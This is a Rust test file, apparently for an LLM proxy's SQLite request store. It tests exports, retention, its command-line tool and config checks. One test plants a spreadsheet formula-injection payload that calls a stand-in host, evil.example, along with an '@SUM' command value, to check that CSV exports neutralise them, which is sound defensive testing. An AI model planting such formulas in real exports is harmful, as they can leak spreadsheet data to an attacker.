    assert_eq!(outcome["requests_deleted"], 0);
    assert_eq!(outcome["vacuumed"], true);
    let (status, _) = send(
        &proxy,
        "POST",
        "/api/maintenance/retention",
        Some(json!({"days": 0})),
    )
    .await;
    assert_eq!(status, 400);

    // Exports of one session: CSV with a header, JSON that parses.
    let (_, list) = get_with_status(&proxy, "/api/sessions").await;
    let id = list["data"][0]["id"].as_i64().unwrap();
    let csv = client()
        .get(proxy.url(&format!("/api/sessions/{id}/export?format=csv")))
        .send()
        .await
        .unwrap();
    assert_eq!(csv.headers()["content-type"], "text/csv; charset=utf-8");
    let csv = csv.text().await.unwrap();
    let lines: Vec<&str> = csv.lines().collect();
    assert_eq!(lines.len(), 2, "{csv}");
    assert!(lines[0].starts_with("id,record_id,session_id,started_at"));
    let all: Value = get_json(&proxy, "/api/export").await;
    assert_eq!(all.as_array().unwrap().len(), 2);
}

#[tokio::test]
async fn exports_stream_a_large_table_in_bounded_memory() {
    let scratch = tempfile::tempdir().unwrap();
    let db = scratch.path().join("big.db");
    let rows = 200_000u64;
    // 2,000 requests in 50 sessions through the store API, then copied in SQL to 200,000 (each copy a later
    // request of the same session).
    fill(&db, 2_000, 50);
    {
        let store = Store::open(&db).unwrap();
        let columns: Vec<&str> = REQUEST_COLUMNS.to_vec();
        let select: Vec<String> = columns
            .iter()
            .map(|c| match *c {
                "record_id" => "record_id + k * 2000".to_string(),
                "started_at" => "started_at + k * 2000".to_string(),
                c => c.to_string(),
            })
            .collect();
        store
            .connection()
            .execute_batch(&format!(
                "WITH RECURSIVE copies(k) AS (SELECT 1 UNION ALL SELECT k + 1 FROM copies WHERE k < {})
                 INSERT INTO requests ({}) SELECT {} FROM requests, copies ORDER BY k, id",
                rows / 2_000 - 1,
                columns.join(", "),
                select.join(", ")
            ))
            .unwrap();
        assert_eq!(
            count(store.connection(), "SELECT count(*) FROM requests"),
            rows as i64
        );
    }

    // Library level: the export pages through the table.
    {
        let conn = open_read_only(&db).unwrap();
        let mut bytes = 0usize;
        let summary = export::export_requests(
            &conn,
            &RequestFilter {
                session: Some(7),
                ..RequestFilter::default()
            },
            Format::Csv,
            500,
            |chunk| {
                bytes += chunk.len();
                true
            },
        )
        .unwrap();
        assert_eq!(summary.rows, rows / 50);
        assert!(summary.pages >= summary.rows / 500);
        assert!(summary.max_chunk <= export::CHUNK_BYTES + 4096);
        assert!(bytes > 0);
    }

    let mock = MockUpstream::start().await.unwrap();
    let proxy = Proxy::start_with_args(
        &mock_config(&mock, ""),
        &[("MOCK_KEY", "k")],
        &["--db", db.to_str().unwrap()],
    )
    .await;
    let pid = proxy.child.id().unwrap();
    let response = client()
        .get(proxy.url("/api/export?format=json"))
        .send()
        .await
        .unwrap();
    assert_eq!(response.status(), 200);
    let mut stream = response.bytes_stream();
    let mut total = 0usize;
    let mut objects = 0u64;
    let mut chunks = 0u64;
    let mut previous = 0u8;
    while let Some(chunk) = stream.next().await {
        let chunk = chunk.unwrap();
        total += chunk.len();
        objects += memchr::memmem::find_iter(&chunk, b"\n{").count() as u64;
        if previous == b'\n' && chunk.first() == Some(&b'{') {
            objects += 1;
        }
        previous = chunk.last().copied().unwrap_or(previous);
        chunks += 1;
    }
    assert_eq!(objects, rows);
    assert!(chunks > 100);
    // The whole export is far larger than what the process ever held.
    let status = std::fs::read_to_string(format!("/proc/{pid}/status")).unwrap_or_default();
    let peak_kb: u64 = status
        .lines()
        .find(|l| l.starts_with("VmHWM:"))
        .and_then(|l| l.split_whitespace().nth(1))
        .and_then(|v| v.parse().ok())
        .unwrap_or(0);
    assert!(total > 150 * 1024 * 1024, "export of {total} bytes");
    if peak_kb > 0 {
        assert!(
            (peak_kb as usize) * 1024 < total / 2,
            "peak RSS {peak_kb} kB for an export of {total} bytes"
        );
    }
}

#[tokio::test]
async fn the_command_line_reads_and_deletes_while_the_server_runs() {
    let (_mock, proxy) = setup("").await;
    chat(
        &proxy,
        json!([user("first task")]),
        &[("x-session-id", "cli-a")],
    )
    .await;
    chat(
        &proxy,
        json!([user("second task")]),
        &[("x-session-id", "cli-b")],
    )
    .await;
    wait_written(&proxy, 2).await;
    let db = proxy.db_path();
    let run = |args: &[&str]| {
        let output = std::process::Command::new(common::BIN)
            .args(args)
            .arg("--db")
            .arg(&db)
            .env_clear()
            .output()
            .unwrap();
        assert!(
            output.status.success(),
            "{args:?}: {}",
            String::from_utf8_lossy(&output.stderr)
        );
        String::from_utf8(output.stdout).unwrap()
    };
    let list = run(&["sessions", "list"]);
    assert!(list.contains("cli-a") && list.contains("cli-b"), "{list}");
    let json_list: Value = serde_json::from_str(&run(&["sessions", "list", "--json"])).unwrap();
    let id = json_list[0]["id"].as_i64().unwrap();
    let show = run(&["sessions", "show", &id.to_string()]);
    assert!(show.contains("request_count"), "{show}");
    let csv = run(&["sessions", "export", &id.to_string(), "--format", "csv"]);
    assert_eq!(csv.lines().count(), 2, "{csv}");
    let tail = run(&["requests", "tail", "-n", "5"]);
    assert_eq!(tail.lines().count(), 2, "{tail}");
    assert!(tail.contains("mock/model"));
    let deleted = run(&["sessions", "delete", &id.to_string()]);
    assert!(deleted.contains("deleted 1 of 1"), "{deleted}");
    // The server sees the deletion, and a later request of that client starts afresh.
    let (_, list) = get_with_status(&proxy, "/api/sessions").await;
    assert_eq!(list["total"], 1);
    let key = json_list[0]["client_key"].as_str().unwrap().to_string();
    chat(&proxy, json!([user("again")]), &[("x-session-id", &key)]).await;
    wait_written(&proxy, 3).await;
    let (_, list) = get_with_status(&proxy, "/api/sessions").await;
    assert_eq!(list["total"], 2);
}

#[test]
fn the_store_section_is_read_and_checked() {
    let env = |_: &str| None;
    let config = Config::from_sources(
        Some((
            "test",
            "[store]\npath = \"x.db\"\npreview_chars = 0\nretention_days = 7\nqueue_capacity = 5\nbatch_rows = 9\nflush_interval_ms = 3\nsession_mode = \"active\"\n",
        )),
        &env,
    )
    .unwrap();
    assert_eq!(config.store.path.as_deref(), Some(Path::new("x.db")));
    assert_eq!(config.store.preview_chars, 0);
    assert_eq!(config.store.retention_days, Some(7));
    assert_eq!(config.store.queue_capacity, 5);
    assert_eq!(config.store.batch_rows, 9);
    assert_eq!(config.store.flush_interval, Duration::from_millis(3));
    assert_eq!(config.store.session_mode, SessionMode::Active);
    let defaults = Config::from_sources(None, &env).unwrap();
    assert!(defaults.store.enabled);
    assert_eq!(defaults.store.preview_chars, 60);
    assert_eq!(defaults.store.session_mode, SessionMode::Conversation);
    let error = Config::from_sources(
        Some((
            "test",
            "[store]\nsession_mode = \"sometimes\"\nbatch_rows = 0\n",
        )),
        &env,
    )
    .unwrap_err()
    .to_string();
    assert!(
        error.contains("session_mode") && error.contains("batch_rows"),
        "{error}"
    );
    let error = Config::from_sources(Some(("test", "[store]\nbogus = 1\n")), &env)
        .unwrap_err()
        .to_string();
    assert!(error.contains("bogus"), "{error}");
    assert_eq!(
        kimi_proxy::cli::resolve_db_path(None, Some(Path::new("x.db")), Path::new("/data")),
        Path::new("/data/x.db")
    );
    assert_eq!(
        kimi_proxy::cli::resolve_db_path(None, None, Path::new("/data")),
        Path::new("/data/kimi-proxy.db")
    );
}

/// What a client plants (its last message becomes the preview, its session id is stored) must not run as a
/// formula when an export is opened in a spreadsheet: through the API and through the command line.
#[tokio::test]
async fn csv_exports_neutralise_formulas() {
    let (_mock, proxy) = setup("").await;
    let formula = r#"=HYPERLINK("http://evil.example/?"&A1,"click")"#;
    chat(
        &proxy,
        json!([user(formula)]),
        &[("x-session-id", "@SUM(1+1)*cmd")],
    )
    .await;
    chat(&proxy, json!([user("+1-1")]), &[("x-session-id", "-2+3")]).await;
    wait_written(&proxy, 2).await;
    let check = |csv: &str| {
        for line in csv.lines().skip(1) {
            // Split the simple way: a neutralised cell is quoted and starts with `'`.
            for cell in line.split(',') {
                let bare = cell.trim_start_matches('"');
                assert!(
                    !bare.starts_with(['=', '+', '-', '@', '\t']),
                    "a cell starts a formula: {cell:?} in {line}"
                );
            }
        }
    };
    let csv = client()
        .get(proxy.url("/api/export?format=csv"))
        .send()
        .await
        .unwrap()
        .text()
        .await
        .unwrap();
    check(&csv);
    assert!(csv.contains("\"'=HYPERLINK"), "{csv}");
    assert!(csv.contains("\"'@SUM(1+1)*cmd\""), "{csv}");
    let (_, list) = get_with_status(&proxy, "/api/sessions").await;
    for session in list["data"].as_array().unwrap() {
        let id = session["id"].as_i64().unwrap();
        let output = std::process::Command::new(common::BIN)
            .args([
                "sessions",
                "export",
                &id.to_string(),
                "--format",
                "csv",
                "--db",
            ])
            .arg(proxy.db_path())
            .env_clear()
            .output()
            .unwrap();
        assert!(output.status.success());
        let csv = String::from_utf8(output.stdout).unwrap();
        assert!(csv.lines().count() >= 2, "{csv}");
        check(&csv);
    }
}

#[tokio::test]
async fn a_sessions_model_is_bounded() {
    let (_mock, proxy) = setup("").await;
    let huge = "m".repeat(100 * 1024);
    let (status, body) = send(
        &proxy,
        "POST",
        "/api/sessions",
        Some(json!({"name": "big", "model": huge})),
    )
    .await;
    assert_eq!(status, 400, "{body}");
    assert_eq!(body["error"]["code"], "invalid_parameter", "{body}");
    let (status, _) = send(
        &proxy,
        "POST",
        "/api/sessions",
        Some(json!({"name": "ctl", "model": "a\u{7}b"})),
    )
    .await;
    assert_eq!(status, 400);
    let (status, created) = send(
        &proxy,
        "POST",
        "/api/sessions",
        Some(json!({"name": "fine", "model": " moonshot/kimi-k2.5 "})),
    )
    .await;
    assert_eq!(status, 201, "{created}");
    assert_eq!(created["model"], "moonshot/kimi-k2.5", "{created}");
}

/// Without a store the proxy still serves, and the store's routes say why they have nothing.
#[tokio::test]
async fn without_a_store_its_routes_answer_404_and_the_proxy_serves() {
    let (_mock, proxy) = setup("enabled = false\n").await;
    assert_eq!(chat(&proxy, json!([user("hi")]), &[]).await, 200);
    for path in ["/api/sessions", "/api/sessions/1/requests", "/api/usage"] {
        let (status, body) = get_with_status(&proxy, path).await;
        assert_eq!(status, 404, "{path}: {body}");
        assert_eq!(body["error"]["code"], "store_disabled", "{path}: {body}");
    }
    let (status, _) = get_with_status(&proxy, "/api/stats").await;
    assert_eq!(status, 200);
}
